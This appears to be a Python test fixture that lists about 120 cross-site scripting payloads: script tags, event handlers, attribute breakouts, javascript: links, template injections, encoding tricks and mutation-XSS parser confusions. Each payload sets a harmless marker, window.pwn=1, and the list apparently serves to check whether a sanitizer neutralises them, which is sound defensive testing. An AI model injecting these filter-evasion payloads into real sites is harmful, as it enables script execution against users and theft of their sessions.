"""Strings that set ``window.pwn`` on a page that takes them for anything but text.

After the classes of OWASP's "XSS Filter Evasion Cheat Sheet"; the wording is ours.
"""

from __future__ import annotations

ACT = "window.pwn=1"

_TAGS = [
    "<script>@@</script>", "<SCRIPT>@@</SCRIPT>", "<scr<script>ipt>@@</scr</script>ipt>",
    "</script><script>@@</script>", "</style><script>@@</script>", "</textarea><script>@@</script>",
    "</title><script>@@</script>", "<!--><script>@@</script>", "--><script>@@</script>",
    "]]><script>@@</script>", "<script\x0c>@@</script>", "<script/x>@@</script>",
    "<script src=data:text/javascript,@@></script>", "<script type=module>@@</script>",
    "<svg><script>@@</script></svg>", "<math><script>@@</script></math>",
    "<noscript><p title=\"</noscript><script>@@</script>\">", "<template><script>@@</script></template>",
    "<xmp><script>@@</script></xmp>", "<plaintext><script>@@</script>",
]  # fmt: skip
_HANDLERS = [
    "<img src=x onerror=@@>", "<img src=x onerror='@@'>", '<img src=x onerror="@@">',
    "<img/src=x/onerror=@@>", "<image src=x onerror=@@>", "<svg onload=@@>", "<svg/onload=@@>",
    "<svg><animate onbegin=@@ attributeName=x dur=1s>", "<svg><set onbegin=@@ attributename=x>",
    "<body onload=@@>", "<body onpageshow=@@>", "<iframe onload=@@></iframe>",
    "<iframe src=\"javascript:@@\"></iframe>", "<iframe srcdoc=\"<script>parent.@@</script>\"></iframe>",
    "<object data=\"javascript:@@\"></object>", "<embed src=\"javascript:@@\">",
    "<input autofocus onfocus=@@>", "<select autofocus onfocus=@@>", "<textarea autofocus onfocus=@@>",
    "<details open ontoggle=@@>", "<video src=x onerror=@@>", "<video><source onerror=@@></video>",
    "<audio src=x onerror=@@>", "<marquee onstart=@@>", "<a autofocus href onfocus=@@>x</a>",
    "<p style=animation:x onanimationstart=@@>", "<div tabindex=1 autofocus onfocus=@@>",
    "<link rel=stylesheet href=data:text/css, onload=@@>", "<style onload=@@></style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@@\">", "<base href=\"javascript:@@//\">",
    "<form><button autofocus onfocus=@@>", "<keygen autofocus onfocus=@@>", "<x onclick=@@ autofocus>",
]  # fmt: skip
_ATTRIBUTES = [
    '"><script>@@</script>', "'><script>@@</script>", '" autofocus onfocus="@@', "' onload='@@",
    '" style="animation:x" onanimationstart="@@', "`><script>@@</script>", '" onerror="@@" src="x',
    "\" onmouseover=@@ x=\"", "' autofocus tabindex=1 onfocus=@@ x='", "x onload=@@", "\\\"><svg onload=@@>",
    "&quot;><script>@@</script>", "&#34;&#62;<svg onload=@@>", "%22%3E%3Cscript%3E@@%3C/script%3E",
]  # fmt: skip
_LINKS = [
    "javascript:@@", "JaVaScRiPt:@@", "java\tscript:@@", "java\nscript:@@", "&#106;avascript:@@",
    "data:text/html,<script>parent.@@</script>", "vbscript:@@", "[click](javascript:@@)",
    "![x](x\"onerror=\"@@)", "<a href=javascript:@@>x</a>", "<javascript:@@>", "[x]: javascript:@@",
    "![x](javascript:@@)", "[a](data:text/html,<script>@@</script>)",
]  # fmt: skip
_TEMPLATES = [
    "${@@}", "{{@@}}", "{%@@%}", "<%=@@%>", "#{@@}", "{{constructor.constructor('@@')()}}",
    "${''.constructor.constructor('@@')()}", "`+(@@)+`", "';@@;//", '";@@;//', "\\';@@;//", "</p>@@<p>",
    "{{#each this}}@@{{/each}}", "@{@@}", "$(@@)", "{$on.constructor('@@')()}",
    "<%- @@ %>", "[[${@@}]]",
]  # fmt: skip
_ODD = [
    "+ADw-script+AD4-@@+ADw-/script+AD4-", "\uff1cscript\uff1e@@\uff1c/script\uff1e",
    "\u2028<script>@@</script>", "<scr\u0000ipt>@@</scr\u0000ipt>", "\ufeff<script>@@</script>",
    "<\u200bscript>@@</script>", "\x1b]8;;javascript:@@\x07x\x1b]8;;\x07", "<!--#exec cmd=\"@@\"-->",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"@@\"/>",
    "<![CDATA[<script>@@</script>]]>", "<!ENTITY x \"@@\">", "\u202e<script>@@</script>",
    "<svg><style><img src=x onerror=@@></style>", "<math><mtext><style><img src=x onerror=@@>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=@@>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@@>",
    "<table><td><svg><desc><td><img src=x onerror=@@>", "<select><style></select><img src=x onerror=@@>",
    "<listing>&lt;img src=x onerror=@@&gt;</listing>", "&lt;script&gt;@@&lt;/script&gt;",
]  # fmt: skip

HOSTILE = [
    template.replace("@@", ACT)
    for template in (*_TAGS, *_HANDLERS, *_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_ODD)
]
"""All of them, with the tell-tale in them."""
